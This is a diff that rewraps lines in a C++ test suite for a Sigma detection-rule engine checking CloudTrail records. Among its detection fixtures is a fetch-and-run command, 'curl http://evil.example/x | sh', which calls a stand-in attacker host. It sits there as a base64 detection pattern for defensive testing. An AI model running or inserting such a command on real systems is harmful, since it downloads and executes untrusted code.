@@ -38,7 +38,8 @@ TEST_CASE("Plain values: the whole value, any case; lists OR, maps AND", "[sigma
   CHECK(ids("    selection:\n        eventName: createaccesskey\n") == Ids{"e1"});
   CHECK(ids("    selection:\n        eventName: Create\n").empty());
   CHECK(ids("    selection:\n        eventName: [ListBuckets, RunInstances]\n") == Ids{"e2", "e4"});
-  CHECK(ids("    selection:\n        eventSource: s3.amazonaws.com\n        eventName: RunInstances\n")
+  CHECK(ids("    selection:\n        eventSource: s3.amazonaws.com\n        eventName: "
+            "RunInstances\n")
             .empty());
 }
 
@@ -91,7 +92,8 @@ TEST_CASE("re: RE2, case-sensitive, unanchored; i, m and s", "[sigma_values]") {
   CHECK(ids("    selection:\n        requestParameters.script|re|m: '^line2$'\n") == Ids{"e4"});
   CHECK(ids("    selection:\n        requestParameters.script|re: 'line1.line2'\n").empty());
   CHECK(ids("    selection:\n        requestParameters.script|re|s: 'line1.line2'\n") == Ids{"e4"});
-  CHECK(ids("    selection:\n        requestParameters.script|re|i|m|s: '^LINE1.LINE2$'\n") == Ids{"e4"});
+  CHECK(ids("    selection:\n        requestParameters.script|re|i|m|s: '^LINE1.LINE2$'\n") ==
+        Ids{"e4"});
   CHECK(problem("    selection:\n        eventName|re: '(?<=a)b'\n")
             .find("invalid regular expression '(?<=a)b'") != std::string::npos);
 }
@@ -101,10 +103,11 @@ TEST_CASE("re runs in linear time on a hostile pattern and a long field", "[sigm
   const std::string long_field = std::string(200000, 'a') + "b";
   const std::string record =
       R"({"eventName":"X","eventSource":"x","eventID":"long","userAgent":")" + long_field + "\"}\n";
-  CHECK(matching_ids("    selection:\n        userAgent|re: '(a+)+$'\n    condition: selection\n", record)
+  CHECK(matching_ids("    selection:\n        userAgent|re: '(a+)+$'\n    condition: selection\n",
+                     record)
             .empty());
-  CHECK(matching_ids("    selection:\n        userAgent|re: '(a+)+b$'\n    condition: selection\n", record) ==
-        Ids{"long"});
+  CHECK(matching_ids("    selection:\n        userAgent|re: '(a+)+b$'\n    condition: selection\n",
+                     record) == Ids{"long"});
 }
 
 TEST_CASE("cidr: IPv4 and IPv6 blocks", "[sigma_values]") {
@@ -118,13 +121,16 @@ TEST_CASE("cidr: IPv4 and IPv6 blocks", "[sigma_values]") {
 TEST_CASE("exists: present, even null; or absent", "[sigma_values]") {
   CHECK(ids("    selection:\n        errorMessage|exists: true\n") == Ids{"e3"});
   CHECK(ids("    selection:\n        readOnly|exists: false\n") == Ids{"e3", "e4"});
-  CHECK(ids("    selection:\n        userIdentity.userName|exists: true\n") == Ids{"e1", "e2", "e3"});
-  CHECK(problem("    selection:\n        readOnly|exists: maybe\n").ends_with("exists takes true or false"));
+  CHECK(ids("    selection:\n        userIdentity.userName|exists: true\n") ==
+        Ids{"e1", "e2", "e3"});
+  CHECK(problem("    selection:\n        readOnly|exists: maybe\n")
+            .ends_with("exists takes true or false"));
 }
 
 TEST_CASE("neq: a value different from every value; nothing when absent", "[sigma_values]") {
   CHECK(ids("    selection:\n        userIdentity.type|neq: IAMUser\n") == Ids{"e2", "e3"});
-  CHECK(ids("    selection:\n        eventName|neq: [createaccesskey, ListBuckets]\n") == Ids{"e3", "e4"});
+  CHECK(ids("    selection:\n        eventName|neq: [createaccesskey, ListBuckets]\n") ==
+        Ids{"e3", "e4"});
 }
 
 TEST_CASE("gt, gte, lt, lte: numbers and numeric strings", "[sigma_values]") {
@@ -135,7 +141,8 @@ TEST_CASE("gt, gte, lt, lte: numbers and numeric strings", "[sigma_values]") {
   CHECK(ids("    selection:\n        requestParameters.port|gte: 22\n") == Ids{"e4"});
   CHECK(ids("    selection:\n        additionalEventData.ratio|lt: 1.6\n") == Ids{"e1"});
   CHECK(ids("    selection:\n        eventName|gt: 0\n").empty());
-  CHECK(problem("    selection:\n        additionalEventData.bytes|gt: many\n").ends_with("'many' is not a number"));
+  CHECK(problem("    selection:\n        additionalEventData.bytes|gt: many\n")
+            .ends_with("'many' is not a number"));
 }
 
 TEST_CASE("Numbers and booleans in records compare as JSON writes them", "[sigma_values]") {
@@ -143,7 +150,7 @@ TEST_CASE("Numbers and booleans in records compare as JSON writes them", "[sigma
   CHECK(ids("    selection:\n        additionalEventData.bytes: '44*'\n") == Ids{"e1"});
   CHECK(ids("    selection:\n        additionalEventData.ratio: '1.5'\n") == Ids{"e1"});
   CHECK(ids("    selection:\n        additionalEventData.ratio: '1.50'\n").empty());
-  CHECK(ids("    selection:\n        readOnly: false\n") == Ids{"e1"});  // JSON false
+  CHECK(ids("    selection:\n        readOnly: false\n") == Ids{"e1"});   // JSON false
   CHECK(ids("    selection:\n        readOnly: 'TRUE'\n") == Ids{"e2"});  // the string "true"
 }
 
@@ -161,35 +168,45 @@ TEST_CASE("Time modifiers: parts of the time in UTC, ISO weeks", "[sigma_values]
 }
 
 TEST_CASE("fieldref: another field of the same record", "[sigma_values]") {
-  CHECK(ids("    selection:\n        requestParameters.userName|fieldref: responseElements.accessKey.userName\n") ==
-        Ids{"e1"});
-  CHECK(ids("    selection:\n        userIdentity.userName|fieldref|neq: requestParameters.userName\n") ==
-        Ids{"e1"});
-  CHECK(ids("    selection:\n        userIdentity.arn|contains|fieldref: userIdentity.userName\n") == Ids{"e1"});
-  CHECK(ids("    selection:\n        userIdentity.arn|fieldref|endswith: requestParameters.userName\n").empty());
+  CHECK(ids("    selection:\n        requestParameters.userName|fieldref: "
+            "responseElements.accessKey.userName\n") == Ids{"e1"});
+  CHECK(ids("    selection:\n        userIdentity.userName|fieldref|neq: "
+            "requestParameters.userName\n") == Ids{"e1"});
+  CHECK(
+      ids("    selection:\n        userIdentity.arn|contains|fieldref: userIdentity.userName\n") ==
+      Ids{"e1"});
+  CHECK(ids("    selection:\n        userIdentity.arn|fieldref|endswith: "
+            "requestParameters.userName\n")
+            .empty());
   // Without fieldref, the field name is a plain string (as SigmaHQ's backdoor-keys rule has it).
-  CHECK(ids("    selection:\n        userIdentity.arn|contains: requestParameters.userName\n").empty());
+  CHECK(ids("    selection:\n        userIdentity.arn|contains: requestParameters.userName\n")
+            .empty());
 }
 
 TEST_CASE("windash: - / and the Unicode dashes, each for the others", "[sigma_values]") {
-  CHECK(ids("    selection:\n        requestParameters.command|windash|contains: ' /la'\n") == Ids{"e2"});
-  CHECK(ids("    selection:\n        requestParameters.command|windash|contains: ' \xe2\x80\x94la'\n") ==
+  CHECK(ids("    selection:\n        requestParameters.command|windash|contains: ' /la'\n") ==
         Ids{"e2"});
+  CHECK(ids("    selection:\n        requestParameters.command|windash|contains: ' "
+            "\xe2\x80\x94la'\n") == Ids{"e2"});
   CHECK(ids("    selection:\n        requestParameters.command|contains: ' /la'\n").empty());
 }
 
 TEST_CASE("base64, base64offset and the UTF-16 encodings", "[sigma_values]") {
-  CHECK(ids("    selection:\n        requestParameters.userData|base64: 'curl http://evil.example/x | sh'\n") ==
+  CHECK(ids("    selection:\n        requestParameters.userData|base64: 'curl "
+            "http://evil.example/x | sh'\n") == Ids{"e4"});
+  CHECK(ids("    selection:\n        requestParameters.userData|base64offset|contains: "
+            "evil.example\n") == Ids{"e4"});
+  CHECK(
+      ids("    selection:\n        requestParameters.userData|base64offset|contains: evil.sample\n")
+          .empty());
+  CHECK(ids("    selection:\n        requestParameters.userData16|wide|base64offset|contains: "
+            "evil\n") == Ids{"e4"});
+  CHECK(ids("    selection:\n        requestParameters.userData16|utf16le|base64offset|contains: "
+            "evil\n") == Ids{"e4"});
+  CHECK(ids("    selection:\n        requestParameters.userDataBE|utf16be|base64: evil\n") ==
         Ids{"e4"});
-  CHECK(ids("    selection:\n        requestParameters.userData|base64offset|contains: evil.example\n") ==
+  CHECK(ids("    selection:\n        requestParameters.userDataBOM|utf16|base64: evil\n") ==
         Ids{"e4"});
-  CHECK(ids("    selection:\n        requestParameters.userData|base64offset|contains: evil.sample\n").empty());
-  CHECK(ids("    selection:\n        requestParameters.userData16|wide|base64offset|contains: evil\n") ==
-        Ids{"e4"});
-  CHECK(ids("    selection:\n        requestParameters.userData16|utf16le|base64offset|contains: evil\n") ==
-        Ids{"e4"});
-  CHECK(ids("    selection:\n        requestParameters.userDataBE|utf16be|base64: evil\n") == Ids{"e4"});
-  CHECK(ids("    selection:\n        requestParameters.userDataBOM|utf16|base64: evil\n") == Ids{"e4"});
   CHECK(problem("    selection:\n        requestParameters.userData|base64: 'evil*'\n")
             .ends_with("base64 cannot encode a value with wildcards"));
 }
@@ -197,15 +214,17 @@ TEST_CASE("base64, base64offset and the UTF-16 encodings", "[sigma_values]") {
 TEST_CASE("expand: placeholders from the options", "[sigma_values]") {
   SigmaOptions options;
   options.placeholders["admins"] = {"alice", "carol"};
-  const std::string selection = "    selection:\n        userIdentity.userName|expand: '%admins%'\n"
-                                "    condition: selection\n";
+  const std::string selection =
+      "    selection:\n        userIdentity.userName|expand: '%admins%'\n"
+      "    condition: selection\n";
   CHECK(matching_ids(selection, kRecords, options) == Ids{"e1"});
   options.placeholders["admins"] = {"ad*"};  // values are Sigma strings: wildcards work
   CHECK(matching_ids(selection, kRecords, options) == Ids{"e2"});
   const auto missing = problems_of(cloudtrail_rule("t", selection));
   REQUIRE(missing.size() == 1);
-  CHECK(missing.front().find("placeholder %admins% has no value (give --placeholder admins=VALUE") !=
-        std::string::npos);
+  CHECK(
+      missing.front().find("placeholder %admins% has no value (give --placeholder admins=VALUE") !=
+      std::string::npos);
   // Without expand, and when escaped, %name% is text.
   CHECK(ids("    selection:\n        userIdentity.userName: '%admins%'\n").empty());
   CHECK(matching_ids("    selection:\n        userIdentity.userName|expand: '\\%admins%'\n"
@@ -215,13 +234,16 @@ TEST_CASE("expand: placeholders from the options", "[sigma_values]") {
 }
 
 TEST_CASE("Modifiers that cannot run are the rule's problem, named", "[sigma_values]") {
-  CHECK(problem("    selection:\n        eventName|foo: x\n").ends_with("'eventName|foo': unsupported modifier 'foo'"));
+  CHECK(problem("    selection:\n        eventName|foo: x\n")
+            .ends_with("'eventName|foo': unsupported modifier 'foo'"));
   CHECK(problem("    selection:\n        eventName|re|contains: x\n")
             .ends_with("modifier 'contains' cannot be combined with 're'"));
-  CHECK(problem("    selection:\n        eventName|i: x\n").ends_with("modifiers 'i', 'm' and 's' go with 're'"));
+  CHECK(problem("    selection:\n        eventName|i: x\n")
+            .ends_with("modifiers 'i', 'm' and 's' go with 're'"));
   CHECK(problem("    selection:\n        eventName|cidr|gt: 1\n")
             .ends_with("modifiers 'cidr' and 'comparison' cannot be combined"));
-  CHECK(problem("    selection:\n        eventName|contains: ~\n").ends_with("null takes no modifiers"));
+  CHECK(problem("    selection:\n        eventName|contains: ~\n")
+            .ends_with("null takes no modifiers"));
   CHECK(problem("    selection:\n        eventName: [[a]]\n").find("a list may hold only values") !=
         std::string::npos);
 }
